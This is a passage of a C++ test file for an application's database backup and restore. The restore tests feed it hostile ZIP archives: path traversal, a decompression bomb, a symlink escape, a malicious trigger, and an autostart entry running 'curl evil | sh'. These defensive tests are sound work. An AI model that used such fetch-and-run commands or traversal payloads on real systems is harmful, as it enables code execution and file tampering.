// Backup to drive A and restore from it, through the backup window, with
// the customer window open: the archive holds the database of one moment
// with the typed edit, the disk set is a standard split archive, and the
// restore replaces the database only when asked to and only whole.
#include "ZipFixtures.h"
#include "maintenance/DatabaseFiles.h"
#include "maintenance/FileShim.h"

#include "app/CommandLine.h"
#include "backup/BackupPassword.h"
#include "backup/DatabaseArchive.h"
#include "backup/DatabaseSnapshot.h"
#include "backup/frmZipCreate.h"
#include "customers/frmInformation.h"
#include "platform/RemovableVolumes.h"
#include "store/DataControl.h"
#include "store/ProgramFolder.h"
#include "support/ScriptedServices.h"
#include "support/TempProgramFolder.h"
#include "zip/ZipEngine.h"
#include "zip/ZipMain.h"

#include <QAction>
#include <QApplication>
#include <QDir>
#include <QDirIterator>
#include <QFileInfo>
#include <QLineEdit>
#include <QMap>
#include <QMenu>
#include <QPointer>
#include <QRegularExpression>
#include <QSettings>
#include <QTemporaryDir>
#include <QTest>
#include <QTreeWidget>
#include <gtest/gtest.h>
#include <sqlite3.h>
#include <zlib.h>

using namespace testing_support;
using platform::Button;

namespace {

class BackupRestoreFlow : public ::testing::Test
{
protected:
    void SetUp() override
    {
        drive = work.filePath("driveA");
        QDir().mkdir(drive);
        qputenv("VANTREL_DRIVE_A", drive.toLocal8Bit());
        qputenv("VANTREL_DISK_SIZE", "1457664");
        // Every box the flows show, answered by its text.
        services.answerOthersWith([this](const platform::MessageBoxRequest &box) {
            if (box.text.startsWith("Please insert a blank") || box.text.startsWith("Please insert your backup"))
                return Button::Yes;
            if (box.text.startsWith("The file '"))
                return replaceAnswer;
            return box.buttons == platform::Buttons::OKCancel ? Button::OK : Button::OK;
        });
    }
    void TearDown() override
    {
        qunsetenv("VANTREL_DRIVE_A");
        qunsetenv("VANTREL_DISK_SIZE");
        // Each test starts from settings with nothing remembered.
        backup::BackupPassword::rememberEncryption(false);
        platform::chooseDriveAVolume(QString());
        platform::setRemovableVolumeSource(nullptr);
    }

    QStringList boxesLike(const QString &start) const
    {
        QStringList found;
        for (const QString &text : services.boxTexts())
            if (text.startsWith(start))
                found << text;
        return found;
    }

    TempProgramFolder folder;
    ScriptedServices services;
    QTemporaryDir work;
    QString drive;
    Button replaceAnswer = Button::Yes;
};

TEST_F(BackupRestoreFlow, FiveMegabytesOnFloppiesWithAnEditTypedThenRestoredWhenAsked)
{
    growDatabase(folder.databasePath(), 5);
    ASSERT_GT(QFileInfo(folder.databasePath()).size(), 4'500'000);

    QPointer<customers::frmInformation> customers = new customers::frmInformation;
    customers->show();
    QApplication::processEvents();
    store::DataControl *data = customers->data();
    ASSERT_TRUE(data->moveTo(7));
    const qint64 customer = data->recordset()->Bookmark();
    auto *firstName = customers->findChild<QLineEdit *>("txtFields_0");
    firstName->setFocus();
    firstName->selectAll();
    QTest::keyClicks(firstName, "Wilhelmina");

    // A disk that holds an old backup: it goes before the new one is written.
    QFile stale(QDir(drive).filePath("VantrelBackup.zip"));
    ASSERT_TRUE(stale.open(QIODevice::WriteOnly));
    stale.write("an old backup");
    stale.close();

    auto *window = new backup::frmZipCreate;
    window->show();
    window->menuItem("mnuAutomaticBackup")->trigger();

    EXPECT_EQ(boxesLike("Compressed backup process completed!").size(), 1)
        << services.boxTexts().join(" | ").toStdString();
    EXPECT_FALSE(boxesLike("Please insert disk #2 of the set.").isEmpty()) << "the backup spans disks";
    EXPECT_FALSE(window->menuItem("mnuAutomaticBackup")->isChecked());
    EXPECT_EQ(window->windowTitle(), "A:\\VantrelBackup.zip");
    ASSERT_EQ(window->list()->topLevelItemCount(), 1);
    EXPECT_EQ(window->list()->topLevelItem(0)->text(0), "Vantrel.mdb");
    EXPECT_EQ(window->busyCount(), 0);
    EXPECT_TRUE(data->hasOpenFile()) << "the customer window kept its file";

    const auto backedUp = storedRows(folder.databasePath(), "Information");
    const auto edited =
        std::find_if(backedUp.cbegin(), backedUp.cend(), [&](const StoredRow &r) { return r.rowid == customer; });
    ASSERT_NE(edited, backedUp.cend());
    EXPECT_EQ(edited->values.at(8).toString(), "Wilhelmina");

    // Info-ZIP joins the disks and finds the archive whole.
    const QString joined = work.filePath("joined.zip");
    const QString parts = work.filePath("parts");
    QDir().mkdir(parts);
    EXPECT_GE(joinDiskSet(drive, "VantrelBackup.zip", parts, joined), 2);
    QString out;
    EXPECT_EQ(runTool("unzip", {"-t", joined}, QString(), &out), 0) << out.toStdString();
    EXPECT_EQ(runTool("unzip", {"-Z1", joined}, QString(), &out), 0);
    EXPECT_EQ(out.trimmed(), "Vantrel.mdb");

    // The data changes after the backup; a restore answered No keeps it.
    firstName->setFocus();
    firstName->selectAll();
    QTest::keyClicks(firstName, "Changed");
    ASSERT_TRUE(data->UpdateRecord());
    const auto changed = storedRows(folder.databasePath(), "Information");
    ASSERT_NE(changed, backedUp);
    replaceAnswer = Button::No;
    window->menuItem("mnuAutomaticRestore")->trigger();
    EXPECT_EQ(boxesLike("The file 'Vantrel.mdb' already exists. Do you want to replace this file?").size(), 1);
    EXPECT_EQ(storedRows(folder.databasePath(), "Information"), changed);
    EXPECT_FALSE(window->menuItem("mnuAutomaticRestore")->isChecked());

    // Yes puts the backup in its place, and the open window shows it.
    replaceAnswer = Button::Yes;
    window->menuItem("mnuAutomaticRestore")->trigger();
    EXPECT_EQ(storedRows(folder.databasePath(), "Information"), backedUp);
    EXPECT_EQ(integrityCheck(folder.databasePath()), "ok");
    EXPECT_EQ(fileMode(folder.databasePath()), 0600);
    ASSERT_TRUE(data->recordset());
    EXPECT_EQ(data->recordset()->RecordCount(), backedUp.size());
    EXPECT_EQ(data->recordset()->Bookmark(), customer) << "back on the same customer";
    EXPECT_EQ(firstName->text(), "Wilhelmina");
    EXPECT_EQ(window->busyCount(), 0);

    // Onto a program folder without a database: nothing to ask.
    customers->close();
    QApplication::processEvents();
    delete customers.data();
    ASSERT_TRUE(QFile::remove(folder.databasePath()));
    const int asked = boxesLike("The file '").size();
    window->menuItem("mnuAutomaticRestore")->trigger();
    EXPECT_EQ(boxesLike("The file '").size(), asked);
    EXPECT_EQ(storedRows(store::programPath("\\Vantrel.mdb"), "Information"), backedUp);
    EXPECT_EQ(filesIn(folder.path()).size(), 1) << filesIn(folder.path()).join(", ").toStdString();
    delete window;
}

TEST_F(BackupRestoreFlow, AnEncryptedBackupOpensOnlyWithItsPassword)
{
    qputenv("VANTREL_DISK_SIZE", "100000000");
    insertVariedCustomers(folder.databasePath(), 300);
    const auto rows = storedRows(folder.databasePath(), "Information");

    auto *window = new backup::frmZipCreate;
    window->show();
    services.answerText(QString("Strike!9"));
    services.answerText(QString("Strike!9"));
    window->menuItem("mnuOptionsPassword")->trigger();
    EXPECT_TRUE(boxesLike("Write this password down").size() == 1) << services.boxTexts().join(" | ").toStdString();
    window->menuItem("mnuAutomaticBackup")->trigger();
    EXPECT_EQ(boxesLike("Compressed backup process completed!").size(), 1);
    delete window;

    const QString archive = QDir(drive).filePath("VantrelBackup.zip");
    QString out;
    EXPECT_EQ(runTool("7z", {"t", "-pStrike!9", archive}, QString(), &out), 0) << out.toStdString();
    EXPECT_NE(runTool("7z", {"t", "-pGutter", archive}, QString(), &out), 0) << out.toStdString();
    EXPECT_NE(runTool("7z", {"t", archive}, QString(), &out), 0) << out.toStdString();

    // A new window knows no password (no keyring here): it asks for it; a
    // wrong one restores nothing and says so, the right one restores all.
    insertVariedCustomers(folder.databasePath(), 5);
    const auto before = storedRows(folder.databasePath(), "Information");
    window = new backup::frmZipCreate;
    window->show();
    services.answerText(QString("Gutter"));
    services.answerText(std::nullopt);
    window->menuItem("mnuAutomaticRestore")->trigger();
    EXPECT_EQ(services.textInputs.size(), 4);
    EXPECT_EQ(storedRows(folder.databasePath(), "Information"), before);
    EXPECT_FALSE(boxesLike("The database was not restored").isEmpty()) << services.boxTexts().join(" | ").toStdString();

    services.answerText(QString("Strike!9"));
    window->menuItem("mnuAutomaticRestore")->trigger();
    EXPECT_EQ(storedRows(folder.databasePath(), "Information"), rows);
    delete window;
}

TEST_F(BackupRestoreFlow, TheCommandLineWritesATestedArchiveAnywhere)
{
    insertVariedCustomers(folder.databasePath(), 120);
    const QString destination = work.filePath("nightly/Vantrel-backup.zip");
    QDir().mkpath(work.filePath("nightly"));
    QFile old(destination);
    ASSERT_TRUE(old.open(QIODevice::WriteOnly));
    old.write("last night's backup");
    old.close();

    app::CommandLine line;
    ASSERT_TRUE(line.parse({"vantrel", "--backup", destination}));
    QString outText, errText;
    QTextStream out(&outText), err(&errText);
    EXPECT_EQ(line.run(out, err), 0) << errText.toStdString();
    QString tool;
    EXPECT_EQ(runTool("unzip", {"-t", destination}, QString(), &tool), 0) << tool.toStdString();
    EXPECT_EQ(runTool("unzip", {"-Z1", destination}, QString(), &tool), 0);
    EXPECT_EQ(tool.trimmed(), "Vantrel.mdb");
    EXPECT_EQ(fileMode(destination), 0600);
    EXPECT_EQ(filesIn(work.filePath("nightly")), QStringList({"Vantrel-backup.zip"}));

    // No database: status 1, and the archive of the night before stays.
    QFile::remove(folder.databasePath());
    QFile::copy(destination, work.filePath("kept.zip"));
    app::CommandLine again;
    ASSERT_TRUE(again.parse({"vantrel", "--backup", destination}));
    EXPECT_EQ(again.run(out, err), 1);
    EXPECT_EQ(fileBytes(destination), fileBytes(work.filePath("kept.zip")));
}

// Another program left the file in write-ahead-log mode with rows still in
// its log; a killed backup left its copy beside the database. Both ways of
// backing up archive every row in a rollback-journal copy, and remove the
// copy left behind.
TEST_F(BackupRestoreFlow, AWriteAheadLogDatabaseIsBackedUpWithTheRowsInItsLog)
{
    insertVariedCustomers(folder.databasePath(), 20);
    sqlite3 *other = nullptr;
    ASSERT_EQ(sqlite3_open(QFile::encodeName(folder.databasePath()).constData(), &other), SQLITE_OK);
    ASSERT_EQ(sqlite3_exec(other,
                           "PRAGMA journal_mode = WAL; PRAGMA wal_autocheckpoint = 0;"
                           "INSERT INTO Information (LockerNumber) VALUES (7001), (7002)",
                           nullptr, nullptr, nullptr),
              SQLITE_OK);
    ASSERT_TRUE(QFileInfo(folder.databasePath() + "-wal").size() > 0);
    const QString leftover = backup::DatabaseSnapshot::folderNameFor(folder.databasePath());
    QDir().mkdir(leftover);
    QFile::copy(folder.databasePath(), leftover + "/Vantrel.mdb");

    const QString nightly = work.filePath("nightly.zip");
    app::CommandLine line;
    ASSERT_TRUE(line.parse({"vantrel", "--backup", nightly}));
    QString outText, errText;
    QTextStream out(&outText), err(&errText);
    EXPECT_EQ(line.run(out, err), 0) << errText.toStdString();

    auto *window = new backup::frmZipCreate;
    window->show();
    window->menuItem("mnuAutomaticBackup")->trigger();
    delete window;
    sqlite3_close(other);

    for (const QString &archive : {nightly, QDir(drive).filePath("VantrelBackup.zip")}) {
        SCOPED_TRACE(archive.toStdString());
        const QString into = work.filePath(QFileInfo(archive).baseName());
        QString tool;
        ASSERT_EQ(runTool("unzip", {"-q", archive, "-d", into}, QString(), &tool), 0) << tool.toStdString();
        const QString copy = into + "/Vantrel.mdb";
        EXPECT_EQ(integrityCheck(copy), "ok");
        EXPECT_EQ(rowCount(copy, "Information"), 22);
        EXPECT_EQ(fileBytes(copy).mid(18, 2), QByteArray("\x01\x01", 2)) << "rollback-journal mode";
    }
    EXPECT_FALSE(QFileInfo::exists(leftover));
}

// Backups once protected stay protected: without the password no backup is
// made, and an encryption that fails writes nothing.
TEST_F(BackupRestoreFlow, AProtectedBackupIsNeverWrittenInTheClear)
{
    const QByteArray bus = qgetenv("DBUS_SESSION_BUS_ADDRESS");
    qunsetenv("DBUS_SESSION_BUS_ADDRESS");
    backup::BackupPassword::rememberEncryption(true);
    insertVariedCustomers(folder.databasePath(), 50);
    const QString destination = work.filePath("nightly.zip");
    auto writeFile = [](const QString &path, const QByteArray &bytes) {
        QFile file(path);
        ASSERT_TRUE(file.open(QIODevice::WriteOnly));
        file.write(bytes);
    };
    writeFile(destination, "last night's backup");
    const QString passwordFile = work.filePath("password");
    writeFile(passwordFile, "Strike!9\n");
    QFile::setPermissions(passwordFile, QFile::ReadOwner | QFile::WriteOwner | QFile::ReadOther);

    auto run = [&](const QStringList &arguments, QString *said) {
        app::CommandLine line;
        EXPECT_TRUE(line.parse(QStringList{"vantrel", "--backup", destination} + arguments));
        QString outText, errText;
        QTextStream out(&outText), err(&errText);
        const int status = line.run(out, err);
        *said = outText + errText;
        return status;
    };
    QString said;
    EXPECT_EQ(run({}, &said), 1);
    EXPECT_TRUE(said.contains("no keyring holds it")) << said.toStdString();
    EXPECT_EQ(run({"--password-file", passwordFile}, &said), 1) << "a password file others can read";
    EXPECT_TRUE(said.contains("readable by you only")) << said.toStdString();
    QFile::setPermissions(passwordFile, QFile::ReadOwner | QFile::WriteOwner);
    const quint16 aes = backup::encryptionMethod();
    backup::setEncryptionMethod(0xffff); // a method libzip cannot write
    EXPECT_EQ(run({"--password-file", passwordFile}, &said), 1);
    backup::setEncryptionMethod(aes);
    EXPECT_TRUE(said.contains("could not be encrypted")) << said.toStdString();
    EXPECT_FALSE(said.contains("(encrypted)"));
    EXPECT_EQ(fileBytes(destination), QByteArray("last night's backup"));

    EXPECT_EQ(run({"--password-file", passwordFile}, &said), 0) << said.toStdString();
    EXPECT_TRUE(said.contains("(encrypted)"));
    QString tool;
    EXPECT_EQ(runTool("7z", {"t", "-pStrike!9", destination}, QString(), &tool), 0) << tool.toStdString();
    EXPECT_NE(runTool("7z", {"t", "-p", destination}, QString(), &tool), 0) << tool.toStdString();

    // The window asks for the password the keyring cannot give.
    auto *window = new backup::frmZipCreate;
    window->show();
    services.answerText(std::nullopt);
    window->menuItem("mnuAutomaticBackup")->trigger();
    EXPECT_EQ(boxesLike("The backup was not made").size(), 1) << services.boxTexts().join(" | ").toStdString();
    EXPECT_FALSE(QFileInfo::exists(QDir(drive).filePath("VantrelBackup.zip")));
    services.answerText(QString("Strike!9"));
    window->menuItem("mnuAutomaticBackup")->trigger();
    EXPECT_EQ(boxesLike("Compressed backup process completed!").size(), 1);
    EXPECT_EQ(runTool("7z", {"t", "-pStrike!9", QDir(drive).filePath("VantrelBackup.zip")}, QString(), &tool), 0);
    EXPECT_NE(runTool("7z", {"t", "-p", QDir(drive).filePath("VantrelBackup.zip")}, QString(), &tool), 0);
    delete window;
    if (!bus.isEmpty())
        qputenv("DBUS_SESSION_BUS_ADDRESS", bus);
}

// A stick that also holds the operator's own files: the backup goes into
// the folder of ours and nothing else on the stick changes; with two
// volumes, the one chosen in the Options menu is drive A.
TEST_F(BackupRestoreFlow, ABackupToAStickTouchesOnlyItsOwnFolder)
{
    qunsetenv("VANTREL_DRIVE_A");
    platform::chooseDriveAVolume(QString());
    const QString stick = work.filePath("media/STICK");
    const QString disk = work.filePath("media/disk");
    QDir().mkpath(stick + "/photos");
    QDir().mkpath(disk);
    const QMap<QString, QByteArray> theirs = {{"photos/league night.jpg", QByteArray(300000, '\x7f')},
                                              {"VantrelBackup.zip", "not ours: at the top of the stick"},
                                              {"notes.txt", "bring shoes"}};
    for (auto it = theirs.cbegin(); it != theirs.cend(); ++it) {
        QFile file(stick + "/" + it.key());
        ASSERT_TRUE(file.open(QIODevice::WriteOnly));
        file.write(it.value());
    }
    platform::setRemovableVolumeSource(std::make_unique<FolderVolumes>(QList<platform::RemovableVolume>{
        {"1111-AAAA", stick, "/dev/sdb1", "STICK", "Kingmax Flash", 16'000'000'000, false},
        {"2222-BBBB", disk, "/dev/sdc1", QString(), "Seagrave Portable", 500'000'000'000, false}}));
    insertVariedCustomers(folder.databasePath(), 200);

    auto *window = new backup::frmZipCreate;
    window->show();
    window->menuItem("mnuAutomaticBackup")->trigger();
    const QStringList asked = boxesLike("Please insert a blank");
    ASSERT_EQ(asked.size(), 1);
    EXPECT_TRUE(asked.first().endsWith("\r\rDrive A is STICK (16.0 GB) at " + stick
                                       + "; only its folder VantrelBackup is erased."))
        << asked.first().toStdString();
    EXPECT_EQ(boxesLike("Compressed backup process completed!").size(), 1)
        << services.boxTexts().join(" | ").toStdString();
    QString tool;
    EXPECT_EQ(runTool("unzip", {"-t", stick + "/VantrelBackup/VantrelBackup.zip"}, QString(), &tool), 0)
        << tool.toStdString();
    EXPECT_EQ(filesIn(stick + "/VantrelBackup"), QStringList({"VantrelBackup.zip"}));
    for (auto it = theirs.cbegin(); it != theirs.cend(); ++it)
        EXPECT_EQ(fileBytes(stick + "/" + it.key()), it.value()) << it.key().toStdString();

    // The second volume, chosen in the menu, takes the next backup.
    QMenu *choices = window->findChild<QMenu *>("mnuOptionsDriveA");
    ASSERT_TRUE(choices);
    emit choices->aboutToShow();
    QAction *second = window->findChild<QAction *>("mnuOptionsDriveA_2222-BBBB");
    ASSERT_TRUE(second);
    EXPECT_FALSE(second->isChecked());
    second->trigger();
    const QByteArray first = fileBytes(stick + "/VantrelBackup/VantrelBackup.zip");
    window->menuItem("mnuAutomaticBackup")->trigger();
    EXPECT_TRUE(boxesLike("Please insert a blank").last().contains("Drive A is Seagrave Portable (500.0 GB)"));
    EXPECT_EQ(runTool("unzip", {"-t", disk + "/VantrelBackup/VantrelBackup.zip"}, QString(), &tool), 0)
        << tool.toStdString();
    EXPECT_EQ(fileBytes(stick + "/VantrelBackup/VantrelBackup.zip"), first);
    delete window;
}

// An archive written byte by byte, so that it can say what a hostile or
// damaged one says: any entry name, the same name twice, a size that lies.
struct RawEntry {
    QByteArray name;
    QByteArray data;
    qint64 statedSize = -1; // -1: the true size
    bool deflate = false;
};

QByteArray le(quint32 value, int bytes)
{
    QByteArray out;
    for (int i = 0; i < bytes; ++i)
        out.append(char((value >> (8 * i)) & 0xff));
    return out;
}

QByteArray rawZip(const QList<RawEntry> &entries)
{
    QByteArray file, central;
    for (const RawEntry &e : entries) {
        QByteArray packed = e.data;
        if (e.deflate) {
            packed.resize(int(compressBound(uLong(e.data.size()))) + 64);
            z_stream z{};
            deflateInit2(&z, 9, Z_DEFLATED, -15, 9, Z_DEFAULT_STRATEGY);
            z.next_in = reinterpret_cast<Bytef *>(const_cast<char *>(e.data.constData()));
            z.avail_in = uInt(e.data.size());
            z.next_out = reinterpret_cast<Bytef *>(packed.data());
            z.avail_out = uInt(packed.size());
            deflate(&z, Z_FINISH);
            packed.resize(int(z.total_out));
            deflateEnd(&z);
        }
        const quint32 crc = quint32(crc32(0, reinterpret_cast<const Bytef *>(e.data.constData()), uInt(e.data.size())));
        const quint32 size = quint32(e.statedSize < 0 ? e.data.size() : e.statedSize);
        const QByteArray common = le(20, 2) + le(0, 2) + le(e.deflate ? 8 : 0, 2) + le(0, 2) + le(0x21, 2) + le(crc, 4)
            + le(quint32(packed.size()), 4) + le(size, 4) + le(quint32(e.name.size()), 2) + le(0, 2);
        central += le(0x02014b50, 4) + le(20, 2) + common + le(0, 2) + le(0, 2) + le(0, 2) + le(0, 4)
            + le(quint32(file.size()), 4) + e.name;
        file += le(0x04034b50, 4) + common + e.name + packed;
    }
    const quint32 at = quint32(file.size());
    return file + central + le(0x06054b50, 4) + le(0, 4) + le(quint32(entries.size()), 2)
        + le(quint32(entries.size()), 2) + le(quint32(central.size()), 4) + le(at, 4) + le(0, 2);
}

// Whatever an archive holds, the database is replaced only by a whole
// database of this program, taken from the one entry that names it.
TEST_F(BackupRestoreFlow, ARestoreRefusesWhatIsNotOneWholeDatabaseOfOurs)
{
    insertVariedCustomers(folder.databasePath(), 40);
    const QByteArray live = fileBytes(folder.databasePath());
    const QStringList filesBefore = filesIn(folder.path());
    auto databaseWith = [&](const char *sql) {
        const QString path = work.filePath("made.mdb");
        QFile::remove(path);
        QFile::copy(folder.databasePath(), path);
        sqlite3 *db = nullptr;
        sqlite3_open(QFile::encodeName(path).constData(), &db);
        EXPECT_EQ(sqlite3_exec(db, sql, nullptr, nullptr, nullptr), SQLITE_OK) << sql;
        sqlite3_close(db);
        return fileBytes(path);
    };
    const QByteArray sound = databaseWith("UPDATE Information SET FirstName = 'Restored'");
    const QByteArray bomb = QByteArray("SQLite format 3\0", 16) + QByteArray(64 << 20, '\0');
    const struct {
        const char *what;
        QList<RawEntry> entries;
        const char *told;
    } cases[] = {
        {"a dot before the name", {{"./Vantrel.mdb", "plain text, no database"}}, "is not a database file"},
        {"a parent folder before the name", {{"..\\Vantrel.mdb", sound}}, "not restored"},
        {"two entries of the name", {{"Vantrel.mdb", sound}, {"VANTREL.MDB", sound}}, "2 entries that would each"},
        {"a foreign schema",
         {{"Vantrel.mdb", databaseWith("ALTER TABLE Information DROP COLUMN FirstName")}},
         "has no field FirstName"},
        {"a trigger",
         {{"Vantrel.mdb",
           databaseWith("CREATE TRIGGER t AFTER INSERT ON Information BEGIN DELETE FROM "
                        "CenterInformation; END")}},
         "holds the trigger t"},
        {"a size that lies", {{"Vantrel.mdb", bomb, 4096, true}}, "not restored"},
        {"a truncated database", {{"Vantrel.mdb", sound.left(sound.size() / 2)}}, "not restored"},
    };
    const QString archive = QDir(drive).filePath("VantrelBackup.zip");
    for (const auto &c : cases) {
        SCOPED_TRACE(c.what);
        QFile out(archive);
        ASSERT_TRUE(out.open(QIODevice::WriteOnly));
        out.write(rawZip(c.entries));
        out.close();
        services.boxes.clear();
        auto *window = new backup::frmZipCreate;
        window->show();
        window->menuItem("mnuAutomaticRestore")->trigger();
        delete window;
        EXPECT_TRUE(services.boxTexts().join(" | ").contains(c.told)) << services.boxTexts().join(" | ").toStdString();
        EXPECT_EQ(fileBytes(folder.databasePath()), live);
        EXPECT_EQ(filesIn(folder.path()), filesBefore) << "nothing left beside the database";
    }

    // The same archive with a sound entry is restored.
    QFile out(archive);
    ASSERT_TRUE(out.open(QIODevice::WriteOnly));
    out.write(rawZip({{"Vantrel.mdb", sound}}));
    out.close();
    auto *window = new backup::frmZipCreate;
    window->show();
    window->menuItem("mnuAutomaticRestore")->trigger();
    delete window;
    // The restored file holds the archived rows, and beside them the database
    // it replaced, kept as a change that can be undone.
    const QString archived = work.filePath("archived.mdb");
    QFile copy(archived);
    ASSERT_TRUE(copy.open(QIODevice::WriteOnly));
    copy.write(sound);
    copy.close();
    for (const char *table : {"Information", "CenterInformation"})
        EXPECT_EQ(storedRows(folder.databasePath(), table), storedRows(archived, table)) << table;
    EXPECT_EQ(rowCount(folder.databasePath(), "VantrelChanges"), 1);
}

// Added by hand with another file into a set on drive A, the database goes
// in like that file: one set written once, both entries in it.
TEST_F(BackupRestoreFlow, TheDatabaseGoesIntoASetOnDriveALikeAnyOtherFile)
{
    insertVariedCustomers(folder.databasePath(), 50);
    const QString notes = folder.file("notes.txt"); // a file dialog chooses in one folder
    QFile file(notes);
    ASSERT_TRUE(file.open(QIODevice::WriteOnly));
    file.write("league notes");
    file.close();
    auto *window = new backup::frmZipCreate;
    window->show();
    window->zipMain().setMultidisk(true);
    services.answerFile(QString("A:\\Manual.zip"));
    window->menuItem("mnuFileNew")->trigger();
    services.answerFiles({folder.databasePath(), notes});
    window->menuItem("mnuEditAdd")->trigger();
    EXPECT_TRUE(boxesLike("Operation not supported").isEmpty()) << services.boxTexts().join(" | ").toStdString();
    EXPECT_EQ(window->list()->topLevelItemCount(), 2);
    delete window;
    QString tool;
    EXPECT_EQ(runTool("unzip", {"-Z1", QDir(drive).filePath("Manual.zip")}, QString(), &tool), 0) << tool.toStdString();
    QStringList names = tool.trimmed().split('\n');
    names.sort();
    EXPECT_EQ(names, QStringList({"Vantrel.mdb", "notes.txt"}));
}

// The copy is checked while it is compressed: one that fails its check (cut
// short once written) leaves the archive as it was, whether the component
// works on a temporary file or the archive is a new one the caller drops.
TEST_F(BackupRestoreFlow, ACopyFailingItsCheckWhileCompressedIsNotArchived)
{
    insertVariedCustomers(folder.databasePath(), 3000); // a copy of several blocks
    const QString archive = work.filePath("kept.zip");
    backup::ZipMain zip;
    zip.setZipFilename(archive);
    ASSERT_TRUE(backup::addDatabase(zip, 0, folder.databasePath()).succeeded());
    const QByteArray before = fileBytes(archive);

    const QString live = QFileInfo(folder.databasePath()).canonicalFilePath();
    FileShimHooks hooks;
    hooks.watch = [live](const QString &path, int flags) {
        return (flags & SQLITE_OPEN_MAIN_DB) && (flags & SQLITE_OPEN_READWRITE)
            && QFileInfo(path).canonicalFilePath() != live;
    };
    hooks.afterClose = [](const QString &path) {
        QFile copy(path);
        copy.resize(copy.size() - 1024);
    };
    FileShim cut("vantrel-cut-backup-copy", hooks);
    for (const bool commandLine : {false, true}) {
        const backup::ArchiveOutcome o = commandLine
            ? backup::writeBackupArchive(archive, folder.databasePath(), QString())
            : backup::addDatabase(zip, 2, folder.databasePath());
        EXPECT_EQ(o.code, 0) << commandLine;
        EXPECT_TRUE(o.error.text.contains("failed its check")) << o.error.text.toStdString();
        EXPECT_EQ(fileBytes(archive), before) << commandLine;
    }
    EXPECT_EQ(filesIn(work.path()).filter(".zip"), QStringList({"kept.zip"}));
}

void putFile(const QString &path, const QByteArray &bytes)
{
    QDir().mkpath(QFileInfo(path).absolutePath());
    QFile file(path);
    ASSERT_TRUE(file.open(QIODevice::WriteOnly));
    file.write(bytes);
}

// The names below a folder, hidden ones and folders too, in byte order.
QStringList everythingIn(const QString &folder)
{
    QStringList names;
    QDirIterator it(folder, QDir::AllEntries | QDir::Hidden | QDir::System | QDir::NoDotAndDotDot,
                    QDirIterator::Subdirectories);
    while (it.hasNext())
        names << QDir(folder).relativeFilePath(it.next());
    names.sort();
    return names;
}

// Started from the home folder, as a desktop launcher starts the program,
// the automatic restore puts the archive's other files into the program
// folder, asking before it replaces one, and nowhere else: not into the
// current folder, not into a hidden folder, not through a link out of the
// program folder, not onto the database's journal.
TEST_F(BackupRestoreFlow, TheAutomaticRestorePutsOtherFilesOnlyIntoTheProgramFolder)
{
    insertVariedCustomers(folder.databasePath(), 30);
    const QByteArray sound = fileBytes(folder.databasePath());
    insertVariedCustomers(folder.databasePath(), 5);
    putFile(folder.file("Complete.rpt"), "the center's listing");
    const QString home = work.filePath("home");
    const QString outside = work.filePath("outside");
    QDir().mkpath(home);
    QDir().mkpath(outside);
    ASSERT_TRUE(QFile::link(outside, folder.file("linked")));
    putFile(QDir(drive).filePath("VantrelBackup.zip"),
            rawZip({{"Vantrel.mdb", sound},
                    {".config/autostart/evil.desktop", "[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n"},
                    {".hidden.txt", "hidden"},
                    {"notes/league.txt", "league night"},
                    {"Complete.rpt", "the listing as backed up"},
                    {"VANTREL.MDB-journal", "a journal the engine would play into the database"},
                    {"linked/planted.txt", "through the link"}}));
    const QString started = QDir::currentPath();
    ASSERT_TRUE(QDir::setCurrent(home));
    auto *window = new backup::frmZipCreate;
    window->show();
    window->menuItem("mnuAutomaticRestore")->trigger();
    delete window;
    QDir::setCurrent(started);

    EXPECT_EQ(everythingIn(home), QStringList());
    EXPECT_EQ(everythingIn(outside), QStringList());
    // Beside them only the kept database the restore replaced.
    const QStringList restored = everythingIn(folder.path()).filter(QRegularExpression("^(?!VANTREL\\.MDB\\.kept)"));
    EXPECT_EQ(restored, QStringList({"Complete.rpt", "Vantrel.mdb", "linked", "notes", "notes/league.txt"}))
        << restored.join(", ").toStdString();
    EXPECT_EQ(fileBytes(folder.file("notes/league.txt")), QByteArray("league night"));
    EXPECT_EQ(fileBytes(folder.file("Complete.rpt")), QByteArray("the listing as backed up"));
    EXPECT_EQ(boxesLike("The file '" + folder.file("Complete.rpt") + "' already exists").size(), 1)
        << services.boxTexts().join(" | ").toStdString();
    EXPECT_EQ(storedRows(folder.databasePath(), "Information").size(), 30);
    const QString refused = boxesLike("These files of the archive were not restored").join(" | ");
    for (const char *name :
         {".config\\autostart\\evil.desktop", ".hidden.txt", "VANTREL.MDB-journal", "linked\\planted.txt"})
        EXPECT_TRUE(refused.contains(name)) << name << ": " << services.boxTexts().join(" | ").toStdString();
}

// A folder as drive A is the operator's: a backup there clears only what is
// of its archive, and the previous archive stays until the new one is whole.
TEST_F(BackupRestoreFlow, AFolderAsDriveAKeepsTheOperatorsFiles)
{
    insertVariedCustomers(folder.databasePath(), 200);
    putFile(QDir(drive).filePath("letter.txt"), "dear league");
    putFile(QDir(drive).filePath("photos/lane 7.jpg"), QByteArray(5000, '\x7f'));
    putFile(QDir(drive).filePath("VantrelBackup.zip"), "the previous backup");
    putFile(QDir(drive).filePath("VantrelBackup.zip.partial"), "what a killed backup left");
    auto *window = new backup::frmZipCreate;
    window->show();
    window->menuItem("mnuAutomaticBackup")->trigger();
    delete window;
    EXPECT_EQ(boxesLike("Compressed backup process completed!").size(), 1)
        << services.boxTexts().join(" | ").toStdString();
    EXPECT_EQ(everythingIn(drive), QStringList({"VantrelBackup.zip", "letter.txt", "photos", "photos/lane 7.jpg"}));
    EXPECT_EQ(fileBytes(QDir(drive).filePath("letter.txt")), QByteArray("dear league"));
    EXPECT_EQ(fileBytes(QDir(drive).filePath("photos/lane 7.jpg")), QByteArray(5000, '\x7f'));
    QString tool;
    EXPECT_EQ(runTool("unzip", {"-t", QDir(drive).filePath("VantrelBackup.zip")}, QString(), &tool), 0)
        << tool.toStdString();
}

// Whether backups are protected does not hang on the settings file alone:
// lost, the database still says so; unreadable, no backup is made.
TEST_F(BackupRestoreFlow, ProtectionOnceSetSurvivesALostOrUnreadableSettingsFile)
{
    const QByteArray bus = qgetenv("DBUS_SESSION_BUS_ADDRESS");
    qunsetenv("DBUS_SESSION_BUS_ADDRESS");
    insertVariedCustomers(folder.databasePath(), 20);
    backup::BackupPassword::rememberEncryption(true);
    const QString settings =
        QSettings(QSettings::UserScope, QStringLiteral("Vantrel"), QStringLiteral("Vantrel")).fileName();
    ASSERT_TRUE(QFileInfo::exists(settings));
    const QString destination = work.filePath("nightly.zip");
    auto backUp = [&](QString *said) {
        app::CommandLine line;
        EXPECT_TRUE(line.parse({"vantrel", "--backup", destination}));
        QString outText, errText;
